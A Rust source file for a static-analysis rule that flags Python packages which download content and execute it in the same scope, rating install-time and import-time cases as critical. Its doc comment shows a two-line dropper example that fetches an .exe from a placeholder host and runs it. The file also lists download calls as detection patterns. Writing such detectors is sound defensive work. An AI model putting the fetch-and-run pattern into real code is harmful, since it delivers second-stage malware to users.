use std::collections::BTreeMap;

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::{Arg, Call};

use super::common::{
    CommandKind, Liveness, classify_call, dangerous_in_snippet, is_code_eval, is_process_exec,
    is_test_path, python_sources,
};
use crate::{Input, Rule, finding, weigh};

/// Calls that fetch content from a URL.
const DOWNLOADS: &[&str] = &[
    "urllib.request.urlretrieve",
    "urllib.urlretrieve",
    "urllib.request.urlopen",
    "urllib.urlopen",
    "urllib2.urlopen",
    "requests.get",
    "requests.request",
    "httpx.get",
    "wget.download",
];

/// ## What it does
/// Finds a download (`urlretrieve`, `urlopen(…).read()`, `requests.get`) and
/// the execution of something (`subprocess`, `os.system`, `os.startfile`,
/// `exec`/`eval` of non-literal code) in the same function or in the same
/// module-level code. Build-tool commands (`make`, `cmake`, …) do not count as
/// the execution. Critical in install-time code and at import time.
///
/// ## Why is this bad?
/// Fetching a second stage and running it is how most droppers work: the
/// package stays small and innocent-looking, and the payload can change after
/// review. Packages that need a binary ship it or let pip fetch it.
///
/// ## Example
/// ```python
/// urllib.request.urlretrieve("http://example.invalid/u.exe", path)
/// os.startfile(path)
/// ```
#[derive(Debug)]
pub struct DownloadExecute;

fn is_download(call: &Call) -> bool {
    DOWNLOADS.contains(&call.callee.as_str())
}

fn is_execute(call: &Call) -> bool {
    if is_process_exec(&call.callee) {
        return !matches!(classify_call(call), Some(CommandKind::Build));
    }
    is_code_eval(&call.callee)
        && call
            .args
            .first()
            .is_some_and(|a| !matches!(a, Arg::Str(_) | Arg::Const(_)))
}

impl Rule for DownloadExecute {
    fn id(&self) -> &'static str {
        "PY-DOWNLOAD-EXECUTE"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "downloads something and executes in the same Python scope"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, source) in python_sources(input) {
            if is_test_path(&file.path) {
                continue;
            }
            let live = Liveness::of(file, source, input, &Default::default());
            let mut scopes: BTreeMap<Option<&str>, (Vec<&Call>, Vec<&Call>)> = BTreeMap::new();
            for call in &source.calls {
                let key = call.scope.as_deref();
                if is_download(call) {
                    scopes.entry(key).or_default().0.push(call);
                } else if is_execute(call) {
                    scopes.entry(key).or_default().1.push(call);
                }
            }
            for (scope, (downloads, executes)) in scopes {
                let (Some(download), Some(exec)) = (downloads.first(), executes.first()) else {
                    continue;
                };
                let top = live.runs(exec);
                let cmdclass =
                    file.runs_at == RunsAt::Install && scope.is_some_and(|s| s.contains('.'));
                let runs_at = if top || cmdclass {
                    file.runs_at
                } else {
                    RunsAt::Runtime
                };
                // Running a Windows executable or a shell command that
                // downloads is the dropper shape whatever the context.
                let dangerous = executes.iter().any(|c| {
                    matches!(classify_call(c), Some(CommandKind::Dangerous(_)))
                        || dangerous_in_snippet(&c.snippet).is_some()
                });
                let base = if dangerous {
                    Severity::Critical
                } else {
                    Severity::High
                };
                let severity = weigh(base, runs_at, exec.scope.is_none());
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!(
                        "`{}` (line {}) downloads and `{}` executes in {}",
                        download.callee,
                        download.line,
                        exec.callee,
                        scope.map_or("module-level code".to_owned(), |s| format!("`{s}`"))
                    ),
                    Some(&file.path),
                    Some(exec.line),
                    Some(&exec.snippet),
                ));
            }
        }
    }
}
